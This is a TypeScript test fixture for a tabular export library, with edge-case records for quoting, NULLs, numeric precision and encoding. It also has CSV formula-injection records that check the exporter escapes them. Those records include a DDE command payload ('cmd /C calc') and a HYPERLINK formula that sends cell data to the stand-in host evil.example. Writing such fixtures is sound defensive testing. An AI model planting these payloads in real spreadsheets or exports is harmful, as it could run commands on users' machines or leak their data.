/** Awkward export records shared by the format tests: every quoting, NULL-vs-empty, precision and encoding trap we know of. */
import type { ExportRecord, FieldSpec, TabularDataset } from '../../src/model/dataset.ts';

export const FIELDS: FieldSpec[] = [
  { name: 'id', type: 'uuid' },
  { name: 'label', type: 'text' },
  { name: 'n', type: 'integer' },
  { name: 'big', type: 'bigint' },
  { name: 'x', type: 'float' },
  { name: 'price', type: 'numeric' },
  { name: 'ok', type: 'boolean' },
  { name: 'at', type: 'timestamp' },
  { name: 'day', type: 'date' },
  { name: 'doc', type: 'json' },
  { name: 'tags', type: 'array' },
  { name: 'blob', type: 'bytes' },
];

export const NULLS: ExportRecord = Object.fromEntries(FIELDS.map((f) => [f.name, null]));

/** Awkward values: every quoting, NULL-vs-empty, precision and encoding trap we know of. */
export const RECORDS: ExportRecord[] = [
  {
    id: '0b7e3f52-8a6c-4c55-9f1e-2d1f3b5a9c01',
    label: 'say "hi", then\nnew line\r\nCRLF\tand tab',
    n: 42,
    big: 9036396042225763098n,
    x: 0.1,
    price: '12345.6700',
    ok: true,
    at: '2025-03-30T01:30:00.123456+00:00',
    day: '2025-03-30',
    doc: {
      leírás: 'Gyújtás ő/ű é',
      nested: { list: [1, 'két', null], big: 9036396042225763098n },
      empty: {},
    },
    tags: ['a,b', 'q"uote', 'new\nline', null, '', 'crlf\r\n'],
    blob: Buffer.from([0, 1, 2, 254, 255]),
  },
  {
    id: 'ffffffff-ffff-4fff-bfff-ffffffffffff',
    label: '',
    n: 0,
    big: -9223372036854775808n,
    x: -0,
    price: '-0.0001',
    ok: false,
    at: '2024-12-31T23:59:59.999999-05:30',
    day: '1970-01-01',
    doc: {},
    tags: [],
    blob: Buffer.alloc(0),
  },
  { ...NULLS, id: '00000000-0000-0000-0000-000000000000' },
  {
    ...NULLS,
    id: '11111111-2222-4333-8444-555555555555',
    label: '  leading and trailing spaces  ',
    n: -9007199254740991,
    big: 9223372036854775807n,
    x: 1e-300,
    doc: 'a JSON string, "quoted" ő',
    tags: [1.5, true, false, null],
  },
  {
    ...NULLS,
    id: '22222222-2222-4222-8222-222222222222',
    label: '🚗💨 emoji 👍🏽 and NULL',
    x: -1.7976931348623157e308,
    doc: [1, 2, { k: null, ключ: 'значение' }],
    tags: ['""', ',', '\\N', 'NULL'],
  },
  { ...NULLS, id: '33333333-3333-4333-8333-333333333333', label: '\\N', doc: 42 },
  { ...NULLS, id: '44444444-4444-4444-8444-444444444444', label: 'NULL', doc: null, ok: true },
  { ...NULLS, id: '55555555-5555-4555-8555-555555555555', label: '"', doc: true, x: 123456789.125 },
];

/** The characters a spreadsheet reads as the start of a formula (OWASP "CSV injection"), and the escape. */
export const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', "'"] as const;

/**
 * Text that a spreadsheet would run as a formula, in every text-carrying type and position, next to
 * values that only look alike: negative numbers (numbers, not formulas), a real leading `'`, formula
 * characters inside or at the end of a text.
 */
export const FORMULA_RECORDS: ExportRecord[] = [
  ...FORMULA_STARTS.map((start, i) => ({
    ...NULLS,
    id: `f0000000-0000-4000-8000-00000000000${i}`,
    label: `${start}cmd|' /C calc'!A0`,
    n: -5,
    big: -9223372036854775808n,
    x: -0.5,
    price: '-12.50',
    doc: `${start}HYPERLINK("http://evil.example/?"&A1,"click")`,
    tags: [`${start}1+1`, 'plain'],
  })),
  { ...NULLS, id: 'f1000000-0000-4000-8000-000000000000', label: '=1+1', x: -Infinity, doc: { f: '=1' } },
  { ...NULLS, id: 'f2000000-0000-4000-8000-000000000000', label: "'already quoted", price: '-0.0001' },
  { ...NULLS, id: 'f3000000-0000-4000-8000-000000000000', label: "''two quotes", n: -9007199254740991 },
  { ...NULLS, id: 'f4000000-0000-4000-8000-000000000000', label: "'", x: -1e-300 },
  { ...NULLS, id: 'f5000000-0000-4000-8000-000000000000', label: '-5', doc: -5 },
  { ...NULLS, id: 'f6000000-0000-4000-8000-000000000000', label: '-5+cmd', tags: [-1, '-x'] },
  { ...NULLS, id: 'f7000000-0000-4000-8000-000000000000', label: 'a=b+c-d@e', doc: 'x=1' },
  { ...NULLS, id: 'f8000000-0000-4000-8000-000000000000', label: '+36 30 123 4567' },
  {
    ...NULLS,
    id: 'f9000000-0000-4000-8000-000000000000',
    label: '@SUM(A1:A9)',
    blob: Buffer.from([0xfb, 0xef]),
  },
  { ...NULLS, id: 'fa000000-0000-4000-8000-000000000000', label: '\r\n=2+2' },
  { ...NULLS, id: 'fb000000-0000-4000-8000-000000000000', label: ' =not at the start' },
];

/** A dataset of the awkward fields over `records` (an array, or a generator for large runs). */
export function awkwardDataset(
  records: ExportRecord[] | (() => AsyncIterable<ExportRecord>),
  name = 'awkward',
  extra: Partial<TabularDataset> = {},
): TabularDataset {
  return {
    name,
    kind: 'table',
    fields: FIELDS,
    key: ['id'],
    records:
      typeof records === 'function'
        ? records
        : async function* () {
            yield* records;
          },
    ...extra,
  };
}

/** One record of the large-run datasets: plain values, one accented JSON object. */
export function largeRecord(i: number): ExportRecord {
  return {
    id: i,
    code: `P${String(i).padStart(6, '0')}`,
    at: '2025-03-30T01:30:00.123456+00:00',
    score: i / 7,
    ok: i % 2 === 0,
    doc: { i, note: 'ő "x", y' },
  };
}

export const LARGE_FIELDS: FieldSpec[] = [
  { name: 'id', type: 'integer' },
  { name: 'code', type: 'text' },
  { name: 'at', type: 'timestamp' },
  { name: 'score', type: 'float' },
  { name: 'ok', type: 'boolean' },
  { name: 'doc', type: 'json' },
];

/** `rows` records generated on the fly, for bounded-memory tests. */
export function largeDataset(rows: number): TabularDataset {
  return {
    name: 'large',
    kind: 'table',
    fields: LARGE_FIELDS,
    records: async function* () {
      for (let i = 0; i < rows; i++) yield largeRecord(i);
    },
  };
}
